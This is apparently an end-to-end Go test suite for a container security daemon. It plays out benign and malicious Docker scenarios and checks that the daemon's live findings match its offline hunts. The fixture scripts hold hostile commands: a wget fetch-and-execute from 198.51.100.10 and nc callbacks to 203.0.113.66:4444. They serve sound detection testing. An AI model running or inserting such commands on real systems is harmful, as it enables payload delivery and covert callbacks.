//go:build e2e

package e2e

import (
	"bytes"
	"encoding/json"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// liveConfig watches everything of the lab's host.
const liveConfig = `data: DATA
host: lab
addresses: [` + hostAddress + `]
policy: POLICY
sensors:
  docker: {host: "unix://SOCKET"}
  containerd: {socket: CONTAINERD}
  conntrack: {netns: /run/netns/NETNS}
  wire: {netns: /run/netns/NETNS}
  files:
    - {paths: [DOCKERD], format: dockerd-log}
`

// watchLab starts the daemon on a lab's host and waits until it watches.
func watchLab(t *testing.T, l *lab, policy string) *watcher {
	return watchLabWith(t, l, policy, "")
}

// watchLabWith adds lines to the configuration.
func watchLabWith(t *testing.T, l *lab, policy, more string) *watcher {
	t.Helper()
	return watchLabAs(t, l, policy, liveConfig+more)
}

// watchLabAs watches with a configuration of its own.
func watchLabAs(t *testing.T, l *lab, policy, config string) *watcher {
	t.Helper()
	if !strings.Contains(config, "listen:") {
		config += "listen: \"off\"\n"
	}
	file := filepath.Join(t.TempDir(), "policy.yaml")
	if err := os.WriteFile(file, []byte(policy), 0o600); err != nil {
		t.Fatal(err)
	}
	w := newWatcher(t, strings.NewReplacer("POLICY", file, "SOCKET", l.socket, "CONTAINERD", filepath.Join(l.dir, "containerd.sock"),
		"NETNS", l.host, "DOCKERD", filepath.Join(l.dir, "dockerd.out")).Replace(config))
	w.policy = file
	w.start("--log-format", "json")
	l.wait("the daemon's sensors", func() bool {
		if w.cmd.Process.Signal(syscall.Signal(0)) != nil {
			t.Fatal("the daemon ended")
		}
		text, err := os.ReadFile(w.log.Name())
		return err == nil && bytes.Count(text, []byte(`"sensor watches"`)) >= 5
	})
	return w
}

// told is one telling of a finding, as the log says it.
type told struct {
	Time     time.Time
	Msg      string
	Severity string
	ID       string
}

// delays are how long after its last evidence each finding above info was told,
// at each of its severities.
func (w *watcher) delays() map[string]time.Duration {
	w.t.Helper()
	at := map[string]time.Time{}
	text, err := os.ReadFile(w.log.Name())
	if err != nil {
		w.t.Fatal(err)
	}
	for line := range bytes.Lines(text) {
		var one told
		if json.Unmarshal(line, &one) == nil && one.Msg == "finding" {
			at[one.ID+" "+one.Severity] = one.Time
		}
	}
	all := map[string]time.Duration{}
	data, err := os.ReadFile(filepath.Join(w.data(), "findings.ndjson"))
	if err != nil {
		return all
	}
	for line := range bytes.Lines(data) {
		var f struct {
			found
			EndTime int64 `json:"end_time"`
		}
		if err := json.Unmarshal(line, &f); err != nil {
			w.t.Fatal(err)
		}
		key := f.FindingInfo.UID + " " + strings.ToLower(f.Severity)
		if when, ok := at[key]; ok && f.Severity != "Informational" {
			all[key] = when.Sub(time.UnixMilli(f.EndTime))
		}
	}
	return all
}

// same compares what was found live with a hunt over what was recorded.
func (w *watcher) same() (all map[string]string) {
	w.t.Helper()
	live := kept(w.t, w.data())
	stdout, stderr, _ := run(w.t, nil, "hunt", "--policy", w.policy, "-o", "json", "--min-severity", "info", filepath.Join(w.data(), "journal"))
	hunted := map[string]string{}
	for _, f := range findings(w.t, stdout) {
		hunted[f.FindingInfo.UID] = f.Severity
	}
	if !maps.Equal(live, hunted) {
		w.t.Errorf("live %v, by a hunt over the recording %v\n%s", live, hunted, stderr)
	}
	return live
}

// reset makes the lab's engine as it was at first. An image with children goes
// after them, so that it takes some rounds.
func (l *lab) reset() {
	ask := func(args ...string) []string { return strings.Fields(l.docker(args...)) }
	if ids := ask("ps", "-aq"); len(ids) > 0 {
		l.docker(append([]string{"rm", "-f"}, ids...)...)
	}
	for range 10 {
		ids := ask("images", "-aq")
		if len(ids) == 0 {
			break
		}
		exec.Command("/usr/bin/docker", append([]string{"-H", "unix://" + l.socket, "rmi", "-f"}, ids...)...).Run()
	}
	l.docker("builder", "prune", "-af")
	// Who called over the network in the story before is no part of the next.
	l.must("nsenter", "--net=/run/netns/"+l.host, "conntrack", "-F")
}

// story is something that happens on a host.
type story struct {
	name string
	// least is the severity that a finding must reach, "" if there must be none
	// above info; analytics are those that must be raised.
	least     string
	analytics []string
	happen    func(l *lab)
}

const (
	fetchAndMine = "#!/bin/sh\nwget -q -O /tmp/x.sh http://198.51.100.10/x.sh\nchmod +x /tmp/x.sh\n/tmp/x.sh\nsleep 60\n"
	secondStage  = "#!/bin/sh\nnc -w 2 203.0.113.66 4444 </dev/null\nsleep 1\n"
	serves       = "#!/bin/sh\nexec httpd -f -p 80\n"
)

// stories are what the recordings of real hosts tell, as they happen.
func stories() []story {
	client := func(l *lab, buildKit string, args ...string) {
		l.must("nsenter", append([]string{"--net=/run/netns/" + l.inet, "--setuid", nobody, "--setgid", nobody, "env", "DOCKER_BUILDKIT=" + buildKit,
			"DOCKER_CONFIG=" + filepath.Join(l.dir, "client"), "/usr/bin/docker", "-H", "tcp://" + hostAddress + ":2375"}, args...)...)
	}
	build := func(buildKit string) func(l *lab) {
		return func(l *lab) {
			l.docker("pull", "-q", baseImage)
			client(l, buildKit, "build", "--no-cache", "-q", "-t", disguised, l.context("bad"+buildKit, badBuild))
			client(l, buildKit, "run", "-d", "--name", "upd", disguised)
			time.Sleep(3 * time.Second)
		}
	}
	return []story{
		{"a benign web server", "", nil, func(l *lab) {
			l.docker("pull", "-q", trusted)
			l.docker("run", "-d", "--name", "web", "--health-cmd", "wget -q -O /dev/null http://127.0.0.1/", "--health-interval", "1s", trusted)
			time.Sleep(4 * time.Second)
		}},
		{"b malicious image", "Critical", []string{"AN0691"}, func(l *lab) {
			l.docker("pull", "-q", untrusted)
			l.docker("run", "-d", "--name", "helper", untrusted)
			time.Sleep(4 * time.Second)
		}},
		{"c build on host, classic", "High", []string{"AN1261"}, build("0")},
		{"c2 build on host, BuildKit", "High", []string{"AN1261"}, build("1")},
		{"d benign build", "", nil, func(l *lab) {
			l.docker("pull", "-q", baseImage)
			for _, buildKit := range []string{"0", "1"} {
				l.must("env", "DOCKER_BUILDKIT="+buildKit, "DOCKER_CONFIG="+filepath.Join(l.dir, "client"), "/usr/bin/docker", "-H", "unix://"+l.socket,
					"build", "--no-cache", "-q", "-t", released, l.context("good"+buildKit, goodBuild))
				l.docker("push", "-q", released)
			}
			l.docker("run", "-d", "--name", "app", released)
			time.Sleep(2 * time.Second)
		}},
		{"e debug session", "", nil, func(l *lab) {
			l.docker("pull", "-q", trusted)
			l.docker("run", "-d", "--name", "web", trusted)
			time.Sleep(3 * time.Second)
			l.must("script", "-qec", "/usr/bin/docker -H unix://"+l.socket+" exec -it web sh -c 'ls /; wget -q -O /dev/null http://127.0.0.1/; true'", "/dev/null")
			time.Sleep(time.Second)
		}},
		{"f loaded under a trusted name", "High", []string{"AN0691"}, func(l *lab) {
			l.docker("load", "-q", "-i", filepath.Join(l.dir, "helper.tar"))
			l.docker("tag", untrusted, "198.51.100.40:5000/team/web:9")
			l.docker("rmi", untrusted)
			l.docker("run", "-d", "--name", "f1", "198.51.100.40:5000/team/web:9")
			time.Sleep(4 * time.Second)
		}},
	}
}

// Everything that the recordings of real hosts tell happens here and now, on a
// real Docker Engine: the daemon finds, while it happens, what a hunt over its
// own recording finds, and is silent where nothing is wrong.
func TestFoundWhileItHappens(t *testing.T) {
	l := newLab(t, "-H", "tcp://"+hostAddress+":2375", "--tls=false")
	l.serve("x.sh", secondStage)
	l.serve("install.sh", "#!/bin/sh\nnc -w 2 203.0.113.66 4444 </dev/null\nsleep 60\n")
	l.serve("pkg/index", "demo 1.0\n")
	l.push(baseImage, "#!/bin/sh\n")
	l.push(trusted, serves)
	l.make(untrusted, fetchAndMine)
	l.docker("save", "-o", filepath.Join(l.dir, "helper.tar"), untrusted)
	l.docker("push", "-q", untrusted)
	var all []time.Duration
	for _, s := range stories() {
		t.Run(s.name, func(t *testing.T) {
			l.t = t
			l.reset()
			w := watchLab(t, l, hostPolicy)
			s.happen(l)
			time.Sleep(time.Second)
			for key, d := range w.delays() {
				if s.least == "" {
					t.Errorf("told: %s", key)
				}
				t.Logf("%s: told %v after its last evidence", key, d.Round(time.Millisecond))
				all = append(all, d)
			}
			w.end(syscall.SIGTERM)
			w.judge(s)
		})
	}
	l.t = t
	slices.Sort(all)
	if n := len(all); n > 0 {
		t.Logf("%d tellings above info: median %v, p99 %v, after the last evidence", n, all[n/2].Round(time.Millisecond), all[(n*99)/100].Round(time.Millisecond))
	}
}

// The same where the host has cgroups of version 2 alone.
func TestFoundUnderCgroup2(t *testing.T) {
	l := newLabWith(t, true, nil)
	if version := l.docker("info", "--format", "{{.CgroupVersion}}"); version != "2" {
		t.Fatalf("cgroups of version %s", version)
	}
	l.serve("x.sh", secondStage)
	l.push(trusted, serves)
	l.push(untrusted, fetchAndMine)
	for _, s := range stories() {
		if s.name[0] != 'a' && s.name[0] != 'b' {
			continue
		}
		t.Run(s.name, func(t *testing.T) {
			l.t = t
			l.reset()
			w := watchLab(t, l, hostPolicy)
			s.happen(l)
			time.Sleep(time.Second)
			w.end(syscall.SIGTERM)
			w.judge(s)
			recorded, err := filepath.Glob(filepath.Join(w.data(), "journal", "*", "ebpf.log"))
			if err != nil || len(recorded) == 0 {
				t.Errorf("the kernel's sensor recorded nothing: %v", err)
			}
		})
	}
	l.t = t
}

// judge compares what was found with what must be.
func (w *watcher) judge(s story) {
	w.t.Helper()
	rank := []string{"Informational", "Low", "Medium", "High", "Critical"}
	worst := 0
	for _, severity := range w.same() {
		worst = max(worst, slices.Index(rank, severity))
	}
	stdout, _, _ := run(w.t, nil, "findings", "export", "--data", w.data())
	for _, id := range s.analytics {
		if !strings.Contains(stdout, id) {
			w.t.Errorf("%s is not raised", id)
		}
	}
	if s.least == "" && worst > 0 || worst < slices.Index(rank, s.least) {
		text, _, _ := run(w.t, nil, "hunt", "--policy", w.policy, filepath.Join(w.data(), "journal"))
		w.t.Errorf("the worst finding is %s, want %q:\n%s", rank[worst], s.least, text)
		w.keep(strings.Fields(s.name)[0])
	}
}

// keep keeps what was recorded in the folder that TIDEWAITER_KEEP names, to look
// at after the tests.
func (w *watcher) keep(name string) {
	w.t.Helper()
	if into := os.Getenv("TIDEWAITER_KEEP"); into != "" {
		if out, err := exec.Command("cp", "-r", w.data(), filepath.Join(into, name)).CombinedOutput(); err != nil {
			w.t.Logf("%v: %s", err, out)
		}
	}
}
